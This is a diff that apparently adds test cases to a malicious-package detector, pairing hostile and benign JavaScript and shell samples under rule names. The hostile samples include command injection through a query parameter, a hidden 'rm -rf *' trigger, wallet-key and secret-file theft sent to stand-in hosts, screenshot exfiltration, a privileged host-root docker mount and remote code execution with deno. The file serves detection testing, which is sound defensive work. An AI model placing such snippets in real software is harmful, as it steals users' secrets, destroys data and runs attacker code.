@@ -346,4 +346,91 @@ export const incidents: readonly Technique[] = [
     ),
     honest: main(`process.on('message', (message) => require('request')(message.url, () => process.exit()))`),
   },
+  {
+    name: 'a handler that runs what a client sends',
+    rule: 'code/runs-downloads',
+    hostile: main(`
+      const { exec } = require('child_process')
+      module.exports = (app) => app.get('/health', (req, res) => exec(req.query.c, (error, out) => res.end(out)))`),
+    honest: main(`
+      const { exec } = require('child_process')
+      module.exports = (app) => app.get('/version', (req, res) => exec('git rev-parse HEAD', (error, out) => res.end(out)))`),
+  },
+  {
+    name: 'a handler that deletes the project (express-api-sync, June 2025)',
+    rule: 'code/deletes',
+    hostile: main(`
+      const { exec } = require('child_process')
+      module.exports = () => (req, res, next) => (req.headers['x-key'] === 'k' ? exec('rm -rf *') : next())`),
+    honest: main(`
+      const { exec } = require('child_process')
+      exports.clean = (cwd, done) => exec('rm -rf *', { cwd }, done)`),
+  },
+  {
+    name: 'a wallet in the words of a command',
+    rule: 'code/sends-secrets',
+    hostile: main(`
+      const fs = require('fs'), { exec } = require('child_process')
+      const key = fs.readFileSync(require('os').homedir() + '/.config/solana/id.json', 'utf8')
+      exec('curl -d ' + JSON.stringify(key) + ' https://keys.invalid')`),
+    honest: main(`
+      const { exec } = require('child_process')
+      exports.download = (url, done) => exec('curl -fsSL ' + url, done)`),
+  },
+  {
+    name: 'what a search over folders found',
+    rule: 'code/sends-identity',
+    hostile: main(`
+      const fs = require('fs'), path = require('path'), found = []
+      ;(function walk(folder) {
+        for (const entry of fs.readdirSync(folder, { withFileTypes: true })) {
+          const file = path.join(folder, entry.name)
+          if (entry.isDirectory()) walk(file)
+          else if (/wallet|secret/.test(entry.name)) found.push({ file, text: fs.readFileSync(file, 'utf8') })
+        }
+      })(process.cwd())
+      fetch('https://drop.invalid', { method: 'POST', body: JSON.stringify(found) })`),
+    honest: main(`
+      const fs = require('fs'), path = require('path')
+      exports.upload = (url, folder) => Promise.all(fs.readdirSync(folder).map((name) =>
+        fetch(url, { method: 'PUT', body: fs.readFileSync(path.join(folder, name)) })))`),
+  },
+  {
+    name: 'pictures of the screen',
+    rule: 'code/sends-identity',
+    hostile: main(`
+      const shot = require('screenshot-desktop')
+      setInterval(() => shot().then((body) => fetch('https://drop.invalid', { method: 'POST', body })), 60000)`),
+    honest: main(`exports.shot = () => require('screenshot-desktop')({ format: 'png' })`),
+  },
+  {
+    name: 'visitors are sent elsewhere',
+    rule: 'code/loads-script',
+    hostile: main(`
+      if (typeof window !== 'undefined' && /Android/.test(navigator.userAgent))
+        setTimeout(() => { window.location.href = 'https://ads.invalid/x' }, 5000)`),
+    honest: main(`exports.go = () => { window.location.href = 'https://login.invalid/authorize' }`),
+  },
+  {
+    name: 'the machine of the build, over its containers',
+    rule: 'code/tampers',
+    hostile: script('docker run --rm --privileged -v /:/host alpine true'),
+    honest: script('docker --version || echo no docker'),
+  },
+  {
+    name: 'an installed application is written over',
+    rule: 'code/tampers',
+    hostile: install(`
+      const fs = require('fs'), file = '/Applications/Editor.app/Contents/Resources/app/dist/main.js'
+      fs.writeFileSync(file, fs.readFileSync(file, 'utf8') + '// inert')`),
+    honest: install(`
+      const fs = require('fs')
+      console.log(fs.existsSync('/Applications/Editor.app/Contents/MacOS/Editor'))`),
+  },
+  {
+    name: 'a program from an address, run by its runner',
+    rule: 'code/runs-downloads',
+    hostile: script('deno run -A https://code.invalid/x.ts'),
+    honest: script('deno --version || exit 0'),
+  },
 ]
